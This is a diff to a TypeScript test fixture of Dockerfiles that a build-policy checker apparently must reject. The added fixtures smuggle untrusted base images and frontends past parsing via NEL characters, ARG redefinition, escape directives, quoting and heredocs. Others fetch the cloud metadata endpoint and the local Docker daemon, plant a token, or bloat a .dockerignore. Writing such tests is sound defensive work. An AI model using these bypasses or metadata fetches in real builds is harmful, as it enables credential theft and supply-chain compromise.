@@ -79,6 +79,23 @@ const TREE: Readonly<Record<string, string>> = {
   "builds/foreign_name/Dockerfile": "FROM busybox AS evil\nFROM evil.example/base:1 AS evil2\n",
   "builds/foreign_copy_stage/Dockerfile":
     "FROM busybox\nADD --from=evil.example/x:1 / /\nCOPY --chown=1 --from=evil.example/base:1 a b\n",
+  "builds/foreign_nel/Dockerfile": "FROM busybox\n\u0085FROM evil.example/base:1\n",
+  "builds/foreign_again/Dockerfile": 'ARG A=busybox\nARG "A"=evil.example/base:1\nFROM $A\n',
+  "builds/foreign_indented/Dockerfile":
+    " # escape=`\nFROM busybox\nRUN x \\\nFROM evil.example/base:1\n",
+  "builds/foreign_option/Dockerfile":
+    'FROM busybox\nCOPY --chown="0 " --from=evil.example/base:1 / /\n',
+  "builds/foreign_json/Dockerfile": '\n{"synta\\u0078":"evil.example/frontend"}\n',
+  "builds/foreign_frontend/Dockerfile": "# syntax=evil/frontend\nFROM busybox\n",
+  "builds/listed_heredoc/Dockerfile":
+    "# syntax=docker/dockerfile:1\nFROM busybox\nRUN <<EOF\nFROM evil.example/base:1\nEOF\n",
+  "builds/download/Dockerfile": "FROM busybox\nADD http://169.254.169.254/latest /x\n",
+  "builds/download_local/Dockerfile": "FROM busybox\nADD http://localhost:2375/info /x\n",
+  "builds/download_argument/Dockerfile": "FROM busybox\nARG U\nADD $U /x\n",
+  "builds/env/.env": "TOKEN=PLANTED-IN-A-NAMED-FILE\n",
+  "builds/env/Dockerfile": "FROM busybox\n",
+  "builds/patterns/Dockerfile": "FROM busybox\n",
+  "builds/patterns/.dockerignore": "a*a\n".repeat(1001),
   "builds/listed/Dockerfile":
     "FROM registry.example:5000/base:1 AS base\nFROM base\nCOPY --from=base / /\nCOPY --from=0 / /\n",
   "builds/listed_text/Dockerfile":
@@ -108,7 +125,8 @@ export async function makeFolders(): Promise<Folders> {
 function placed<Value>(value: Value, tree: string): Value {
   if (typeof value === "string") return value.replaceAll("{tree}", tree) as Value;
   if (Array.isArray(value)) return value.map((item) => placed(item, tree)) as Value;
-  if (typeof value !== "object" || value === null || value instanceof RegExp) return value;
+  if (typeof value !== "object" || value === null) return value;
+  if (Object.getPrototypeOf(value) !== Object.prototype) return value; // a RegExp, a Response
   const entries = Object.entries(value).map((
     [key, inner],
   ) => [placed(key, tree), placed(inner, tree)]);
